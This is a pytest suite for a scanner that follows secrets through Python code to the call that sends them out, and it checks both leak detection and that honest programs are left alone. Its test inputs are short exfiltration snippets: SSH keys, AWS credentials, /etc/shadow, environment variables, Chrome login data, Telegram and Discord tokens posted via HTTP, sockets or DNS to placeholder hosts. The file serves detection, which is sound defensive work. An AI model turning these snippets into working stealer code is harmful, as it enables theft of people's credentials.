import pytest

from panguard.scan.flow_python import python_leaks
from panguard.scan.sensitive import Secret


def kinds(*programs: str) -> list[list[Secret]]:
    return [[leak.secret for leak in followed.leaks] for followed in python_leaks(programs)]


READ = 'data = open("~/.ssh/id_rsa").read()\n'


@pytest.mark.parametrize(
    "program",
    [
        READ + "requests.post(url, data=data)",
        READ + "requests.post(url, json={'k': base64.b64encode(data)})",
        READ + "requests.get(f'https://x.example.invalid/{data}')",
        READ + "urllib.request.urlopen(urllib.request.Request(url, data=data))",
        READ + "s = socket.socket()\ns.sendall(data)",
        READ + "subprocess.run(['cu' 'rl', '-d', data, url])",
        READ + "socket.gethostbyname(data + '.x.example.invalid')",
        (
            "with open(os.path.expanduser('~/.aws/credentials')) as f:\n    text = f.read()\n"
            "httpx.post(url, content=text)"
        ),
        "p = Path.home() / '.netrc'\nhttpx.post(url, content=p.read_text())",
        (
            "found = []\nfor p in ('.ssh/id_rsa', '.npmrc'):\n    found.append(open(p).read())\n"
            "requests.post(url, json=found)"
        ),
        (
            "def collect():\n    return open('~/.netrc').read()\ndef main():\n"
            "    requests.post(url, data=collect())"
        ),
        (
            "def main():\n    requests.post(url, data=collect())\ndef collect():\n"
            "    return open('~/.netrc').read()"
        ),
        (
            "class A:\n    def send(self, d):\n        requests.post(url, data=d)\n    def go(self):\n"
            "        self.send(open('~/.netrc').read())"
        ),
        (
            "class A:\n    def __init__(self):\n        self.d = open('~/.netrc').read()\n    def go(self):\n"
            "        requests.post(url, data=self.d)"
        ),
        "out = subprocess.check_output(['cat', '/etc/shadow'])\nrequests.post(url, data=out)",
    ],
)
def test_a_credential_is_followed_to_where_it_leaves(program: str) -> None:
    assert Secret.CREDENTIALS in kinds(program)[0]


@pytest.mark.parametrize(
    "program",
    [
        "requests.post(url, json=dict(os.environ))",
        "e = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post(url, json=e)",
        "requests.post(url, data=json.dumps(os.environ.copy()))",
    ],
)
def test_the_whole_environment_is_followed(program: str) -> None:
    assert kinds(program) == [[Secret.ENVIRONMENT]]


def test_several_keys_or_an_encoded_key_are_followed() -> None:
    two = "requests.post(url, json={'a': os.environ['A_TOKEN'], 'b': os.getenv('B_SECRET')})"
    encoded = "requests.post(url, data=base64.b64encode(os.environ['A_TOKEN'].encode()))"
    assert kinds(two, encoded) == [[Secret.VARIABLE], [Secret.KEY]]


@pytest.mark.parametrize(
    "program",
    [
        "requests.get(url, headers={'Authorization': os.environ['API_KEY']})",
        "requests.post(url, json={'api_key': os.environ['API_KEY'], 'q': q})",
        "subprocess.run(cmd, env=dict(os.environ))",
        "env = os.environ.copy()\nsubprocess.run(['make'], env=env)",
        READ + "print(len(data))",
        "def a():\n    d = json.load(open('~/.netrc'))\ndef b():\n    d = {}\n    requests.post(url, json=d)",
        "import json\nk = json.load(open('~/.netrc'))\nrequests.post(url, data=json.dumps({'q': 1}))",
        READ + "requests.post('http://localhost:8080', data=data)",
        "requests.post(url, data=open('report.txt').read())",
        "c = json.load(open('.env'))\nrequests.post(c['url'], json={'host': c['host']})",
        "path = '~/.ssh/id_rsa'\nrequests.post(url, data='no key')",
        "if open('~/.netrc').read() == '':\n    requests.post(url)",
        (
            "account = Account.from_key(os.environ['PRIVATE_KEY'])\n"
            "client.post(url, json={'from': account.address, 'k': os.getenv('X')})"
        ),
    ],
)
def test_honest_programs_are_left_alone(program: str) -> None:
    assert kinds(program) == [[]]


def test_a_secret_is_followed_from_one_program_of_a_skill_to_another() -> None:
    collect = "def collect():\n    return open('~/.netrc').read()\n"
    send = "from collect import collect\nrequests.post(url, data=collect())\n"
    assert kinds(collect, send) == [[], [Secret.CREDENTIALS]]
    assert kinds(send, collect) == [[Secret.CREDENTIALS], []]


def test_a_secret_is_followed_through_a_file() -> None:
    store = "t = open('~/.netrc').read()\nwith open('/tmp/x', 'w') as f:\n    f.write(t)\n"
    send = "requests.post(url, data=open('/tmp/x').read())\n"
    assert kinds(store, send) == [[], [Secret.CREDENTIALS]]


def test_the_place_is_that_of_the_sending_call() -> None:
    program = READ + "é = 'é'; requests.post(url, data=data)\n"
    (followed,) = python_leaks([program])
    (leak,) = followed.leaks
    assert followed.parsed
    assert program[leak.start : leak.end] == "requests.post(url, data=data)"


@pytest.mark.parametrize(
    "program",
    ["def (", "\0", "x = " + "(" * 500, "x = " + "-" * 5_000 + "1", "a" + ".b" * 5_000],
)
def test_programs_that_cannot_be_parsed_are_said_to_be_so(program: str) -> None:
    assert [(found.leaks, found.parsed) for found in python_leaks([program])] == [((), False)]


def test_a_statement_too_deep_to_follow_is_followed_by_its_words() -> None:
    deep = f"x = [requests.post(url, data=data), {'-' * 950}1]\n"
    (followed,) = python_leaks([READ + deep])
    assert not followed.parsed
    assert [leak.secret for leak in followed.leaks] == [Secret.CREDENTIALS]


@pytest.mark.parametrize(
    "program",
    [
        (
            "p = os.path.expandvars('%LOCALAPPDATA%/Google/Chrome/User Data/Default/Login Data')\n"
            "t = tempfile.mktemp()\nshutil.copy(p, t)\nrows = sqlite3.connect(t).execute(q).fetchall()\n"
            "requests.post(url, json=[list(row) for row in rows])"
        ),
        (
            "d = os.path.expanduser('~/.local/share/TelegramDesktop/tdata')\n"
            "z = zipfile.ZipFile('/tmp/t.zip', 'w')\nfor r, _, fs in os.walk(d):\n    for f in fs:\n"
            "        z.write(os.path.join(r, f))\nz.close()\n"
            "requests.post(url, files={'document': open('/tmp/t.zip', 'rb')})"
        ),
        (
            "shutil.make_archive('/tmp/k', 'zip', os.path.expanduser('~/.gnupg'))\n"
            "requests.post(url, data=open('/tmp/k.zip', 'rb'))"
        ),
        (
            "found = []\nd = os.path.expanduser('~/.config/discord/Local Storage/leveldb/*')\n"
            "for f in glob.glob(d):\n    found += re.findall(pattern, open(f).read())\n"
            "requests.post(url, json=found)"
        ),
    ],
)
def test_a_secret_is_followed_through_copies_and_archives(program: str) -> None:
    assert Secret.CREDENTIALS in kinds(program)[0]


@pytest.mark.parametrize(
    "program",
    [
        "shutil.copy('a.txt', target)\nrequests.post(url, data=open(target).read())",
        (
            "shutil.make_archive('/tmp/site', 'zip', 'dist')\n"
            "requests.post(url, data=open('/tmp/site.zip', 'rb'))"
        ),
        "shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), backup)\nrequests.post(url, data='done')",
    ],
)
def test_honest_copies_and_archives_are_left_alone(program: str) -> None:
    assert kinds(program) == [[]]
